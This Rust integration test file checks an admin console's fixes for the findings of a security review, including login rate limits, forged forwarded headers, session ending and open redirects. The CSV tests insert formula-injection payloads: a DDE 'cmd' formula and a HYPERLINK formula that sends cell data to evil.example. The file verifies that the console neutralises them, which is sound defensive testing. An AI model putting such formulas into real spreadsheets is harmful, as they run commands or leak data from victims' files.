//! The console under an outside security review and a day of staff work: each finding of the
//! review, reproduced against `serve` — logins raced, formulas in the CSVs, a forged
//! `X-Forwarded-For`, framing and caching of pages, bodies read before the caller is known,
//! sessions that outlive a switched-off account, a password typed as a name, `/healthz` and
//! `/metrics` seen from elsewhere, links to orders — and the staff's day: a link from mail that
//! lands on its order, 今すぐ実行 that shows its result, a plugin installed without the shops'
//! secrets.

use std::time::Duration;

use mallhost::accounts::{Role, add_user};
use mallhost::time::Clock as _;
use mallhost_tests::{Options, TestEnv};

use super::console::{
    PASSWORD, csrf_of, env_with_staff, login_http, multipart, no_redirects, page_text, post,
    set_cookie,
};

/// `serve --admin` on `config` with its standard error kept: (child, base URL, stderr so far).
async fn serve_logged(
    env: &TestEnv,
    config: &std::path::Path,
    bind: &str,
) -> (
    tokio::process::Child,
    String,
    std::sync::Arc<std::sync::Mutex<String>>,
) {
    use tokio::io::AsyncBufReadExt;
    let mut serve = env
        .cli_command_with(config, &["serve", "--admin", bind])
        .env("MALLHOST_LOG", "info")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("serve runs");
    let mut stdout = tokio::io::BufReader::new(serve.stdout.take().unwrap()).lines();
    let line = tokio::time::timeout(Duration::from_secs(30), stdout.next_line())
        .await
        .expect("serve says where it listens")
        .unwrap()
        .unwrap_or_default();
    let base = line.strip_prefix("admin API on ").unwrap().to_string();
    tokio::spawn(async move { while let Ok(Some(_)) = stdout.next_line().await {} });
    let log = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let kept = log.clone();
    let mut stderr = tokio::io::BufReader::new(serve.stderr.take().unwrap()).lines();
    tokio::spawn(async move {
        while let Ok(Some(l)) = stderr.next_line().await {
            let mut k = kept.lock().unwrap();
            k.push_str(&l);
            k.push('\n');
        }
    });
    (serve, base, log)
}

fn config_with(env: &TestEnv, extra: &str) -> std::path::PathBuf {
    let config = env.dir.path().join("mallhost.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(extra);
    std::fs::write(&config, text).unwrap();
    config
}

/// A fresh login form: its cookie (`mh_login=…`) and token.
async fn login_form(c: &reqwest::Client, base: &str) -> (String, String) {
    let page = c.get(format!("{base}/console/login")).send().await.unwrap();
    let (pre, _) = set_cookie(&page, "mh_login");
    (pre, csrf_of(&page.text().await.unwrap()))
}

async fn try_login(
    c: &reqwest::Client,
    base: &str,
    name: &str,
    password: &str,
    xff: Option<&str>,
) -> u16 {
    let (pre, token) = login_form(c, base).await;
    let mut r = c
        .post(format!("{base}/console/login"))
        .header("cookie", pre)
        .form(&[("name", name), ("password", password), ("csrf", &token)]);
    if let Some(x) = xff {
        r = r.header("x-forwarded-for", x);
    }
    r.send().await.unwrap().status().as_u16()
}

async fn audit(env: &TestEnv) -> Vec<(String, String, String)> {
    env.store
        .audit_log(500)
        .await
        .unwrap()
        .into_iter()
        .map(|e| (e.actor, e.action, e.detail))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifty_logins_at_once_check_at_most_five() {
    let env = env_with_staff().await;
    let config = config_with(&env, "\n[console]\nlogin_failures_per_address = 100\n");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let mut forms = Vec::new();
    for _ in 0..50 {
        forms.push(login_form(&c, &base).await);
    }
    let tries = forms.into_iter().enumerate().map(|(i, (pre, token))| {
        let c = c.clone();
        let url = format!("{base}/console/login");
        // The last one has the right password.
        let password = if i == 49 { PASSWORD } else { "wrong, again" };
        async move {
            c.post(url)
                .header("cookie", pre)
                .form(&[("name", "sam"), ("password", password), ("csrf", &token)])
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    });
    let statuses = futures_join_all(tries).await;
    let checked = statuses.iter().filter(|s| matches!(s, 401 | 303)).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert!(checked <= 5, "{checked} of 50 checked: {statuses:?}");
    assert_eq!(checked + refused, 50, "{statuses:?}");
    let _ = serve.start_kill();
}

/// Every future at once (the tests crate has no `futures`).
async fn futures_join_all<F: std::future::Future<Output = u16> + Send + 'static>(
    fs: impl Iterator<Item = F>,
) -> Vec<u16> {
    let handles: Vec<_> = fs.map(tokio::spawn).collect();
    let mut out = Vec::new();
    for h in handles {
        out.push(h.await.unwrap());
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_forwarded_for_is_believed_only_from_a_listed_proxy() {
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    // A local process rotating the header: five failures, then the address is refused.
    let mut statuses = Vec::new();
    for i in 0..7 {
        let forged = format!("203.0.113.{i}");
        statuses.push(try_login(&c, &base, &format!("nobody{i}"), "x", Some(&forged)).await);
    }
    assert_eq!(
        statuses,
        [401, 401, 401, 401, 401, 429, 429],
        "{statuses:?}"
    );
    let log = audit(&env).await;
    assert!(
        log.iter().all(|(actor, _, _)| !actor.contains("203.0.113")),
        "a forged address in the audit log: {log:?}"
    );
    assert!(
        log.iter()
            .any(|(actor, action, _)| actor == "login from 127.0.0.1"
                && action == "console.login_failed"),
        "{log:?}"
    );
    let _ = serve.start_kill();
    let _ = serve.wait().await;
    // Behind a listed proxy, the address it saw is the client's.
    let config = config_with(&env, "\n[console]\ntrusted_proxies = [\"127.0.0.1\"]\n");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    for i in 0..7 {
        let seen = format!("198.51.100.{i}");
        let s = try_login(&c, &base, &format!("other{i}"), "x", Some(&seen)).await;
        assert_eq!(s, 401, "each client address has its own count");
    }
    let log = audit(&env).await;
    assert!(
        log.iter()
            .any(|(actor, _, _)| actor == "login from 198.51.100.6"),
        "{log:?}"
    );
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_forbids_framing_and_caching() {
    let env = env_with_staff().await;
    env.order_placed(1, 60);
    let number = env.fetch().await.take.taken[0].clone();
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let session = login_http(&c, &base, "ann").await;
    for page in [
        "/console".to_string(),
        "/console/orders".into(),
        format!("/console/orders/dshop/{number}"),
        "/console/orders.csv".into(),
        "/console/import".into(),
        "/console/export".into(),
        "/console/plugins".into(),
        "/console/settings".into(),
        "/console/audit".into(),
        "/console/users".into(),
        "/console/account".into(),
        "/console/login".into(),
        "/plugins".into(),
    ] {
        let r = c
            .get(format!("{base}{page}"))
            .header("cookie", &session)
            .send()
            .await
            .unwrap();
        let h = r.headers();
        let header = |n: &str| {
            h.get(n)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_string()
        };
        assert_eq!(header("x-frame-options"), "DENY", "{page}");
        assert!(
            header("content-security-policy").contains("frame-ancestors 'none'"),
            "{page}"
        );
        assert_eq!(header("cache-control"), "no-store", "{page}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{page}");
    }
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_caller_is_known_before_a_body_is_read() {
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    // The JSON API: a bad body without a token is 401, not a 422 naming the field it lacks.
    let r = c
        .post(format!("{base}/plugins/install"))
        .header("content-type", "application/json")
        .body("{\"nonsense\": 1}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    let text = r.text().await.unwrap();
    assert!(!text.contains("wasm"), "{text}");
    // With a token, a body over the cap is refused as too large.
    let token = mallhost::accounts::issue_token(&env.store, "ann", env.clock.now())
        .await
        .unwrap();
    let r = c
        .post(format!("{base}/jobs/run"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .body(format!(
            "{{\"shop\": \"{}\", \"job\": \"fetch\"}}",
            "x".repeat(100 * 1024)
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 413);
    assert!(r.text().await.unwrap().contains("too large"));
    // The console: a 65 MiB upload with a wrong token is refused as such, its body unread.
    let session = login_http(&c, &base, "sam").await;
    let big = vec![b'a'; 65 * 1024 * 1024];
    let (kind, body) = multipart(&[("kind", "products")], ("file", "big.csv", &big));
    let r = c
        .post(format!("{base}/console/import?csrf=not-the-token"))
        .header("cookie", &session)
        .header("content-type", kind)
        .body(body)
        .send()
        .await;
    if let Ok(r) = r {
        assert_eq!(r.status().as_u16(), 403, "refused for its token, not read");
    }
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_switched_off_account_switched_on_again_must_log_in_anew() {
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let sam = login_http(&c, &base, "sam").await;
    let ann = login_http(&c, &base, "ann").await;
    let page = c
        .get(format!("{base}/console/users"))
        .header("cookie", &ann)
        .send()
        .await
        .unwrap();
    let token = csrf_of(&page.text().await.unwrap());
    let users = format!("{base}/console/users/switch");
    for disabled in ["true", "false"] {
        let r = post(
            &c,
            &users,
            &ann,
            &[("csrf", &token), ("name", "sam"), ("disabled", disabled)],
        )
        .await;
        assert_eq!(r.status().as_u16(), 200);
    }
    let r = c
        .get(format!("{base}/console"))
        .header("cookie", &sam)
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status().as_u16(),
        303,
        "the old session did not come back"
    );
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn passwords_change_reset_and_sessions_end() {
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let page = |cookie: String, path: &'static str| {
        let c = c.clone();
        let base = base.clone();
        async move {
            let r = c
                .get(format!("{base}{path}"))
                .header("cookie", cookie)
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }
    };
    // Sam, signed in twice, changes his password from one: the other session ends.
    let here = login_http(&c, &base, "sam").await;
    let there = login_http(&c, &base, "sam").await;
    let (_, html) = page(here.clone(), "/console/account").await;
    let token = csrf_of(&html);
    let new = "a brand new passphrase";
    let change = format!("{base}/console/account/password");
    let r = post(
        &c,
        &change,
        &here,
        &[
            ("csrf", &token),
            ("current", "wrong"),
            ("password", new),
            ("password_again", new),
        ],
    )
    .await;
    assert_eq!(
        r.status().as_u16(),
        422,
        "the current password is asked first"
    );
    let r = post(
        &c,
        &change,
        &here,
        &[
            ("csrf", &token),
            ("current", PASSWORD),
            ("password", new),
            ("password_again", new),
        ],
    )
    .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(
        page(here.clone(), "/console").await.0,
        200,
        "this session goes on"
    );
    assert_eq!(page(there, "/console").await.0, 303, "the other one ended");
    assert!(
        mallhost::accounts::by_password(&env.store, "sam", new)
            .await
            .unwrap()
            .is_some()
    );
    // "Log out everywhere else".
    let third = login_http(&c, &base, "vic").await;
    let fourth = login_http(&c, &base, "vic").await;
    let (_, html) = page(third.clone(), "/console/account").await;
    let r = post(
        &c,
        &format!("{base}/console/account/sessions"),
        &third,
        &[("csrf", &csrf_of(&html))],
    )
    .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(page(fourth, "/console").await.0, 303);
    // An admin resets vic's password: vic's sessions end, the new one works.
    let ann = login_http(&c, &base, "ann").await;
    let (_, html) = page(ann.clone(), "/console/users").await;
    let reset = "reset by the admin 1";
    let r = post(
        &c,
        &format!("{base}/console/users/password"),
        &ann,
        &[
            ("csrf", &csrf_of(&html)),
            ("name", "vic"),
            ("password", reset),
            ("password_again", reset),
        ],
    )
    .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(page(third, "/console").await.0, 303);
    assert!(
        mallhost::accounts::by_password(&env.store, "vic", reset)
            .await
            .unwrap()
            .is_some()
    );
    let log = audit(&env).await;
    for action in [
        "account.password",
        "account.end_sessions",
        "users.reset_password",
    ] {
        assert!(log.iter().any(|(_, a, _)| a == action), "{action}: {log:?}");
    }
    let _ = serve.start_kill();
}

#[tokio::test]
async fn an_unknown_name_takes_as_long_as_a_known_one() {
    let env = TestEnv::start(Options::default()).await;
    add_user(&env.store, "ann", Role::Admin, PASSWORD, env.clock.now())
        .await
        .unwrap();
    let time = async |name: &str| {
        let mut runs = Vec::new();
        for _ in 0..5 {
            let t = std::time::Instant::now();
            let who = mallhost::accounts::by_password(&env.store, name, "wrong password")
                .await
                .unwrap();
            assert!(who.is_none());
            runs.push(t.elapsed());
        }
        runs.sort();
        runs[2]
    };
    let _ = time("ann").await; // the dummy hash is made once, outside the measure
    let _ = time("nobody").await;
    let (known, unknown) = (time("ann").await, time("nobody").await);
    assert!(
        unknown * 2 >= known,
        "an unknown name answers in {unknown:?}, a known one in {known:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_password_typed_as_a_name_is_not_logged_and_failures_and_downloads_are_audited() {
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, log) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let typed = "Tr0ub4dor&3-typed-in-the-name-field";
    assert_eq!(try_login(&c, &base, typed, "x", None).await, 401);
    assert_eq!(try_login(&c, &base, "sam", "wrong", None).await, 401);
    let sam = login_http(&c, &base, "sam").await;
    let r = c
        .get(format!("{base}/console/orders.csv"))
        .header("cookie", &sam)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let text = log.lock().unwrap().clone();
    assert!(!text.contains(typed), "{text}");
    assert!(text.contains("a name that is no account"), "{text}");
    let entries = audit(&env).await;
    assert!(
        entries.iter().all(|(_, _, d)| !d.contains(typed)),
        "{entries:?}"
    );
    assert!(
        entries
            .iter()
            .any(|(_, a, d)| a == "console.login_failed" && d == "\"sam\""),
        "{entries:?}"
    );
    assert!(
        entries
            .iter()
            .any(|(actor, a, _)| actor == "user sam" && a == "orders.csv"),
        "{entries:?}"
    );
    let _ = serve.start_kill();
    // The CLI's actor is the account the OS runs it as, whatever $USER says.
    let os_user = std::process::Command::new("id")
        .arg("-un")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    let token = env
        .cli_command(&["users", "token", "sam"])
        .env("USER", "mallory")
        .output()
        .await
        .unwrap();
    assert!(token.status.success());
    let entries = audit(&env).await;
    let cli: Vec<&(String, String, String)> = entries
        .iter()
        .filter(|(actor, _, _)| actor.starts_with("cli "))
        .collect();
    assert!(!cli.is_empty(), "{entries:?}");
    for (actor, _, _) in cli {
        assert_eq!(actor, &format!("cli {os_user}"), "not $USER");
    }
}

/// This machine's address on its network (not loopback), if it has one.
fn own_address() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn healthz_and_metrics_from_elsewhere_say_only_the_status() {
    let Some(ip) = own_address() else {
        eprintln!("skipped: this machine has no address but loopback");
        return;
    };
    let env = env_with_staff().await;
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "0.0.0.0:0").await;
    let port = base.rsplit(':').next().unwrap().to_string();
    let outside = format!("http://{ip}:{port}");
    let c = no_redirects();
    let body = c
        .get(format!("{outside}/healthz"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        body.contains("healthy") && !body.contains("shops") && !body.contains("dshop"),
        "{body}"
    );
    let metrics = c
        .get(format!("{outside}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("mallhost_healthy") && !metrics.contains("dshop"),
        "{metrics}"
    );
    // With a token, and from this machine, the details.
    let token = mallhost::accounts::issue_token(&env.store, "vic", env.clock.now())
        .await
        .unwrap();
    let body = c
        .get(format!("{outside}/healthz"))
        .header("authorization", format!("Bearer {token}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(body.contains("dshop"), "{body}");
    let local = c
        .get(format!("http://127.0.0.1:{port}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        local.contains("mallhost_shop_healthy{shop=\"dshop\""),
        "{local}"
    );
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_failed_fetches_in_a_row_are_unhealthy() {
    let env = TestEnv::start(Options {
        password: "not-the-password".into(),
        shop_toml: "auto_fetch = true\nauto_fetch_every = \"1h\"".into(),
        ..Options::default()
    })
    .await;
    for _ in 0..3 {
        let (ok, _, _) = env.cli(&["fetch", "--shop", "dshop"]).await;
        assert!(!ok);
    }
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let r = reqwest::get(format!("{base}/healthz")).await.unwrap();
    assert_eq!(r.status().as_u16(), 503, "{}", r.text().await.unwrap());
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_from_mail_lands_on_its_order_after_login() {
    let env = env_with_staff().await;
    env.order_placed(1, 60);
    let number = env.fetch().await.take.taken[0].clone();
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let link = format!("/console/orders/dshop/{number}");
    let r = c.get(format!("{base}{link}")).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 303);
    let to_login = r.headers()["location"].to_str().unwrap().to_string();
    assert!(to_login.starts_with("/console/login?next="), "{to_login}");
    let page = c.get(format!("{base}{to_login}")).send().await.unwrap();
    let (pre, _) = set_cookie(&page, "mh_login");
    let html = page.text().await.unwrap().replace("&#x2f;", "/");
    assert!(
        html.contains(&format!("name=\"next\" value=\"{link}\"")),
        "{html}"
    );
    let r = post(
        &c,
        &format!("{base}/console/login"),
        &pre,
        &[
            ("name", "sam"),
            ("password", PASSWORD),
            ("csrf", &csrf_of(&html)),
            ("next", &link),
        ],
    )
    .await;
    assert_eq!(r.status().as_u16(), 303);
    assert_eq!(r.headers()["location"], link.as_str());
    // A link elsewhere is not followed.
    let (pre, token) = login_form(&c, &base).await;
    let r = post(
        &c,
        &format!("{base}/console/login"),
        &pre,
        &[
            ("name", "sam"),
            ("password", PASSWORD),
            ("csrf", &token),
            ("next", "//evil.example/console"),
        ],
    )
    .await;
    assert_eq!(r.headers()["location"], "/console");
    let _ = serve.start_kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_now_shows_its_result_without_a_reload() {
    let env = TestEnv::start(Options {
        shop_toml: "auto_fetch = true\nauto_fetch_every = \"1h\"".into(),
        ..Options::default()
    })
    .await;
    add_user(&env.store, "sam", Role::Staff, PASSWORD, env.clock.now())
        .await
        .unwrap();
    env.order_placed(1, 60);
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let sam = login_http(&c, &base, "sam").await;
    // `serve` starts the shop's automatic fetch at once: a run asked for while it goes is
    // refused (said on the page), and asked again once it has ended.
    let t = std::time::Instant::now();
    let started = loop {
        let html = page_text(&c, &format!("{base}/console"), &sam).await;
        let r = post(
            &c,
            &format!("{base}/console/jobs/run"),
            &sam,
            &[
                ("csrf", &csrf_of(&html)),
                ("shop", "dshop"),
                ("job", "fetch"),
            ],
        )
        .await;
        assert_eq!(r.status().as_u16(), 303);
        let location = r.headers()["location"].to_str().unwrap().to_string();
        if !location.contains("refused") {
            break location;
        }
        assert!(
            t.elapsed() < Duration::from_secs(30),
            "the automatic run never ended: {location}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    // The page keeps coming back until the run has ended, then shows its result in words.
    let t = std::time::Instant::now();
    loop {
        let html = page_text(&c, &format!("{base}{started}"), &sam).await;
        if html.contains("id=\"finished\"") {
            assert!(!html.contains("http-equiv=\"refresh\""), "{html}");
            assert!(html.contains("成功"), "{html}");
            break;
        }
        assert!(
            html.contains("http-equiv=\"refresh\""),
            "a running job's page refreshes: {html}"
        );
        assert!(t.elapsed() < Duration::from_secs(30), "the run never ended");
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    let _ = serve.start_kill();
}

#[tokio::test]
async fn a_plugin_installs_without_the_shops_secrets() {
    let env = TestEnv::start(Options::default()).await;
    let config = config_with(&env, "");
    let text = std::fs::read_to_string(&config).unwrap();
    let unset = text.replace(
        "api_password = \"emulator-secret\"",
        "api_password_env = \"MALLHOST_TEST_UNSET_SECRET\"",
    );
    assert_ne!(text, unset, "the test config names the password");
    std::fs::write(&config, unset).unwrap();
    let (wasm, _) = mallhost_tests::dshopping_variant(env.dir.path(), "v", 91);
    let (ok, out, err) = env
        .cli_command(&["plugins", "install", &wasm.display().to_string()])
        .env_remove("MALLHOST_TEST_UNSET_SECRET")
        .output()
        .await
        .map(|o| {
            (
                o.status.success(),
                String::from_utf8_lossy(&o.stdout).into_owned(),
                String::from_utf8_lossy(&o.stderr).into_owned(),
            )
        })
        .unwrap();
    assert!(ok, "{out}{err}");
    assert!(
        err.contains("MALLHOST_TEST_UNSET_SECRET"),
        "the missing secret is a warning: {err}"
    );
    // A command that calls the mall still needs it, and says which.
    let (ok, _, err) = env.cli(&["fetch", "--shop", "dshop"]).await;
    assert!(!ok && err.contains("MALLHOST_TEST_UNSET_SECRET"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_from_a_mall_or_a_file_are_inert_in_every_csv() {
    let env = env_with_staff().await;
    let at = env.clock.now().timestamp() - 3600;
    let mut order = dshopping_emulator::plain_order(1, at);
    order.orderer.name = "=cmd|' /C calc'!A0".into();
    for d in &mut order.deliveries {
        d.recipient.name = "=cmd|' /C calc'!A0".into();
    }
    env.dshopping().add_order(order);
    let report = env.fetch().await;
    assert_eq!(report.ingested.stored.len(), 1, "{report:?}");
    let config = env.dir.path().join("mallhost.toml");
    let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
    let c = no_redirects();
    let sam = login_http(&c, &base, "sam").await;
    let csv = page_text(&c, &format!("{base}/console/orders.csv"), &sam).await;
    assert!(csv.contains("'=cmd|"), "{csv}");
    assert_no_live_formula(&csv);
    // The rows an import refused, as CSV: a product file whose bad row's key is a formula.
    let html = page_text(&c, &format!("{base}/console/import"), &sam).await;
    let token = csrf_of(&html);
    let file = "item_code,sku_code,name,price\n=HYPERLINK(\"http://evil.example/?d=\"&A1&B1,\"詳細\"),S1,品,not-a-price\nI2,S2,品2,100\n";
    let (kind, body) = multipart(
        &[
            ("csrf", &token),
            ("kind", "products"),
            ("shop", "dshop"),
            ("encoding", "auto"),
        ],
        ("file", "p.csv", file.as_bytes()),
    );
    let page = c
        .post(format!("{base}/console/import?csrf={token}"))
        .header("cookie", &sam)
        .header("content-type", kind)
        .body(body)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
        .replace("&#x2f;", "/");
    let prefix = "data:text/csv;charset=utf-8;base64,";
    let at = page
        .find(prefix)
        .unwrap_or_else(|| panic!("no errors CSV: {page}"));
    let encoded: String = page[at + prefix.len()..]
        .chars()
        .take_while(|c| *c != '"')
        .collect::<String>()
        .replace("&#x3d;", "=")
        .replace("&#x2b;", "+");
    use base64::Engine as _;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded)
        .unwrap();
    let errors = String::from_utf8(bytes).unwrap();
    assert!(errors.contains("'=HYPERLINK"), "{errors}");
    assert_no_live_formula(&errors);
    let _ = serve.start_kill();
}

fn assert_no_live_formula(csv: &str) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    for row in r.records() {
        for cell in row.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a live formula: {cell:?} in {csv}"
            );
        }
    }
}
